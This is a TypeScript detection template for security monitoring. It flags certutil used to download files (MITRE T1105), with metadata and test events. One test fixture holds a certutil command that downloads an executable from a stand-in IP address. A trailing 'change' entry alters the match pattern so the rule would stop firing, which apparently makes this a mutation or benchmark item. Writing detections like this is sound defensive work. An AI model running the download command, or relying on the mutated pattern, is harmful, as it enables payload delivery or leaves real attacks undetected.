import { ABOUT, type DetectionTemplate } from "./template.ts";

export const ba: DetectionTemplate = {
  summary: "OCSF events, as in Splunk's detections of 2022 to 2024",
  spl: `// Where events come from.
$main = from source
// What is needed of an event.
| eval
    timestamp = time,
    device_hostname = device.hostname,
    actor_user_name = actor.user.name,
    process_file_name = lower(process.file.name),
    process_cmd_line = lower(process.cmd_line)
// What makes it a finding.
| where process_file_name = "certutil.exe" AND process_cmd_line LIKE "%urlcache%"
// What the finding says.
| eval
    start_time = timestamp,
    end_time = timestamp,
    message = "Certutil loaded a file on " + device_hostname + " for " + actor_user_name + ".",
    evidence = {"process.file.name": process_file_name, "process.cmd_line": process_cmd_line}
| fields start_time, end_time, device_hostname, actor_user_name, message, evidence
| into sink;
`,
  metadata: `${ABOUT}tags:
  confidence: 80
  impact: 70
  risk_score: 56
  risk_severity: medium
  kill_chain_phases:
    - Command and Control
  message: $actor_user_name$ loaded a file with certutil on $device_hostname$.
  mitre_attack_id:
    - T1105
  required_fields:
    - time
    - device.hostname
    - actor.user.name
    - process.file.name
    - process.cmd_line
`,
  tests: `tests:
  - name: fires when certutil loads a file
    events:
      - time: 1767225600000
        device: { hostname: ws-01 }
        actor: { user: { name: kim } }
        process: { file: { name: certutil.exe }, cmd_line: certutil -urlcache -f http://192.0.2.1/tool.exe tool.exe }
    expect: fires
  - name: stays silent when certutil shows a certificate
    events:
      - time: 1767225600000
        device: { hostname: ws-01 }
        actor: { user: { name: kim } }
        process: { file: { name: certutil.exe }, cmd_line: certutil -dump server.cer }
    expect: silent
`,
  change: { from: "%urlcache%", to: "%urlcached%" },
};
